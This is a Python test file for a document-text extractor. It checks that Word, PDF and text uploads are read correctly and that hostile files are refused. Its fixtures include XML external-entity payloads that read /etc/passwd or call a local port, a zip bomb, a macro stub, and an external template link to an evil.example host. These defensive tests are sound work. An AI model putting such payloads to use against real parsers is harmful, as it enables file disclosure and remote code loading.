"""The text of files that people upload, whole ones and hostile ones."""

from __future__ import annotations

import io
import zipfile

import pytest

from sandbox import text
from sandbox.limits import RefusedFileError
from tests.support.documents import W, paragraph, pdf, scan, word


def read(data: bytes) -> text.Document:
    return text.read(io.BytesIO(data))


def refusal(data: bytes) -> str:
    with pytest.raises(RefusedFileError) as refused:
        read(data)
    return refused.value.code


def test_paragraphs_of_a_word_document() -> None:
    body = (
        f"{paragraph('Lease of  the wharf')}<w:p/><w:tbl><w:tr><w:tc>{paragraph('A cell')}</w:tc></w:tr></w:tbl>"
        "<w:p><w:r><w:t>Before</w:t><w:tab/><w:t>tab</w:t><w:noBreakHyphen/><w:t>end</w:t></w:r></w:p>"
    )
    notes = f"<w:footnotes {W}><w:footnote>{paragraph('A note')}</w:footnote></w:footnotes>"
    found = read(word(body=body, parts={"word/footnotes.xml": notes}))
    assert found.paragraphs == ["Lease of the wharf", "A cell", "Before tab-end", "A note"]
    assert not found.is_tracked


def test_tracked_changes_are_read_as_accepted_and_told() -> None:
    body = (
        "<w:p><w:r><w:t>Rent of </w:t></w:r><w:del><w:r><w:delText>one</w:delText></w:r></w:del>"
        "<w:ins><w:r><w:t>two</w:t></w:r></w:ins></w:p>"
    )
    found = read(word(body=body))
    assert (found.paragraphs, found.is_tracked) == (["Rent of two"], True)


def test_a_text_box_is_read_once() -> None:
    mc = 'xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"'
    box = f"<w:txbxContent>{paragraph('In the box')}</w:txbxContent>"
    body = (
        f"<w:p><w:r><w:t>Around</w:t><mc:AlternateContent {mc}><mc:Choice>{box}</mc:Choice>"
        f"<mc:Fallback>{box}</mc:Fallback></mc:AlternateContent></w:r></w:p>"
    )
    assert read(word(body=body)).paragraphs == ["Around", "In the box"]


def test_paragraphs_of_a_pdf() -> None:
    lines = ["The tenant shall pay the rent on the usual quarter", "days without deduction.", "Signed"]
    assert read(pdf(lines, ["Second page"])).paragraphs == [
        "The tenant shall pay the rent on the usual quarter days without deduction.",
        "Signed",
        "Second page",
    ]


@pytest.mark.parametrize(
    ("data", "paragraphs"),
    [
        ("One\n\n  Two \u00a0 words\r\n".encode(), ["One", "Two words"]),
        ("\ufeffÉtat".encode(), ["État"]),
        ("Größe".encode("cp1252"), ["Größe"]),
        ("Łódź".encode("utf-16"), ["Łódź"]),
        ("soft\u00adhyphen".encode(), ["softhyphen"]),
        ("left \u202eright".encode(), ["left [U+202E]right"]),
        (b"", []),
    ],
)
def test_plain_text_in_its_encodings(data: bytes, paragraphs: list[str]) -> None:
    assert read(data).paragraphs == paragraphs


def test_a_line_without_end_is_split_between_words() -> None:
    found = read(b"word " * 5000).paragraphs
    assert "".join(found).replace(" ", "") == "word" * 5000
    assert max(map(len, found)) <= text.LONGEST


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("40 MB of XML", word(body=paragraph("x" * 1000) * 40_000)),
        ("a zip bomb", word(parts={"word/footnotes.xml": b"\0" * (text.MAX_XML + 1)})),
        ("long text", b"x" * (text.MAX_TEXT + 1)),
    ],
)
def test_too_much_is_refused(name: str, data: bytes) -> None:
    assert refusal(data) == "too_large", name


@pytest.mark.parametrize(
    "entity", ['SYSTEM "file:///etc/passwd"', 'SYSTEM "http://127.0.0.1:9/"', "'a bomb'"]
)
def test_a_document_with_entities_is_refused(entity: str) -> None:
    body = f"<w:body>{paragraph('&e;&e;')}</w:body>"
    xml = f"<!DOCTYPE d [<!ENTITY e {entity}>]><w:document {W}>{body}</w:document>"
    assert refusal(word(xml=xml)) == "damaged"


def test_macros_and_templates_are_ignored() -> None:
    settings = '<Relationships><Relationship TargetMode="External" Target="http://evil.example/t.dotm"/></Relationships>'
    found = read(
        word("Text", parts={"word/vbaProject.bin": b"\xd0\xcf", "word/_rels/settings.xml.rels": settings})
    )
    assert found.paragraphs == ["Text"]


@pytest.mark.parametrize(
    ("data", "code"),
    [
        (pdf(["Secret"], encrypt="word"), "encrypted"),
        (text.OLE + b"\0" * 600 + text.ENCRYPTED, "encrypted"),
        (text.OLE + b"\0" * 600, "type"),
        (scan(), "no_text"),
        (b"%PDF-1.7 and then nothing", "damaged"),
        (word("Text")[:-30], "damaged"),
        (b"PK\x03\x04 not a zip", "damaged"),
        (b"\x00\x01\x02", "type"),
        (word(body="<w:p><w:r><w:t>open</w:t></w:p>"), "damaged"),
    ],
)
def test_what_cannot_be_read_is_refused(data: bytes, code: str) -> None:
    assert refusal(data) == code


def test_an_archive_that_is_no_word_document_is_refused() -> None:
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w") as package:
        package.writestr("xl/workbook.xml", "<x/>")
    assert refusal(output.getvalue()) == "type"
